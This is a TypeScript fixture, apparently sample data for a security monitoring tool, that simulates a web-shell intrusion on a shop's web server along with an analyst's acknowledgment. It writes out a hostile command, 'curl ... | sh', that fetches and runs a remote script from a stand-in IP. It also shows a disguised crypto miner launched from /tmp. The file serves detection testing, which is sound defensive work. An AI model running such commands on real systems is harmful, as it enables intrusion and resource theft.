import { sampleHosts } from '../sample-hosts.ts'
import { child, endOf, firstProcess, startOf } from '../sample-process.ts'
import type { Story } from '../story.ts'

/** A request to the shop was answered by a shell, which fetched a miner. */
export const webShell: Story = {
  agoMs: 3 * 3_600_000,
  events: (atMs) => {
    const service = firstProcess(
      sampleHosts.web,
      { id: '33', name: 'www-data' },
      { atMs: 0, args: ['/usr/sbin/php-fpm8.2', '--nodaemonize'], entry: { type: 'init' } },
    )
    const shell = child(service, atMs, [
      '/usr/bin/dash',
      '-c',
      'curl -s http://198.51.100.23/x.sh | sh',
    ])
    const miner = child(shell, 9_000, [
      '/tmp/.font/fontd',
      '--donate-level=1',
      '-o',
      'stratum+tcp://198.51.100.23:3333',
    ])
    return [startOf(shell), endOf(shell, 9_500, 0), startOf(miner)]
  },
  toldBy: [
    'df83534c-220f-458c-9844-c2ec80b5bc89',
    '37d5543b-6e9a-4e0a-bb21-5fdd3afa37f4',
    '797c395d-94d8-40d2-a763-73b2eacd7a19',
    'a868b397-41b8-43f3-babe-dfd23a54fd6c',
  ],
  verdict: {
    by: 'mira',
    afterMs: 14 * 60_000,
    status: 'acknowledged',
    note: 'The upload form of the shop. Taken out of the balancer; somebody should look at the other one, web-02.',
  },
}
